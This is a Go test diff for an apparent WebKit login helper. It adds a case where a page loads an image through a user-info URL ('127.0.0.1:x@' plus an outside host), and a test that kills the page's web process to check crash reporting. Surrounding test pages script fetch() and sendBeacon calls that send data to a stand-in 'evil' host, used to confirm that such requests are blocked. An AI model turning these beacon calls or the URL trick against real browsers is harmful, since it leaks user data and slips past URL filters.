@@ -173,6 +173,10 @@ func TestRedirect_is_taken_before_any_request(t *testing.T) {
 			return map[string]string{"/": `<img src="` + evil + `/pixel.png">` +
 				script(`fetch(`+quote(evil+"/data")+`).catch(() => {}); navigator.sendBeacon(`+quote(evil+"/data")+`, 'x'); setTimeout(() => location = `+quote(cb)+`, 700)`)}
 		},
+		"after an address with user info was refused": func(cb, evil string) map[string]string {
+			other := strings.TrimPrefix(evil, "http://")
+			return map[string]string{"/": `<img src="http://127.0.0.1:x@` + other + `/pixel.png">` + script(`setTimeout(() => location = `+quote(cb)+`, 700)`)}
+		},
 		"after another page was refused": func(cb, evil string) map[string]string {
 			return map[string]string{"/": script(`location = ` + quote(evil+"/") + `; setTimeout(() => location = ` + quote(cb) + `, 700)`)}
 		},
@@ -343,6 +347,33 @@ func TestPage_that_does_not_load(t *testing.T) {
 			t.Errorf("Open = %v", err)
 		}
 	})
+}
+
+// webProcess finds the page's process below the helper.
+func webProcess(t *testing.T, helper int) int {
+	t.Helper()
+	var found int
+	waitFor(t, "the page's process", func() bool {
+		for _, child := range children(t, helper) {
+			if name, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", child)); strings.HasPrefix(string(name), "WebKitWebProces") {
+				found = child
+			}
+		}
+		return found != 0
+	})
+	return found
+}
+
+func TestPage_that_crashed(t *testing.T) {
+	broker := newSite(t, map[string]string{"/": "hello"})
+	err := ended(t, broker.URL+"/", func(pid int) {
+		waitFor(t, "the page", func() bool { return len(broker.requests()) > 0 })
+		_ = syscall.Kill(webProcess(t, pid), syscall.SIGKILL)
+		pressEscapeAfter(t, "Log in: Personal", time.Second)
+	})
+	if e := kite.AsError(err); !strings.Contains(e.Message, "crashed") {
+		t.Errorf("Open = %v", err)
+	}
 }
 
 func TestHelper_killed(t *testing.T) {
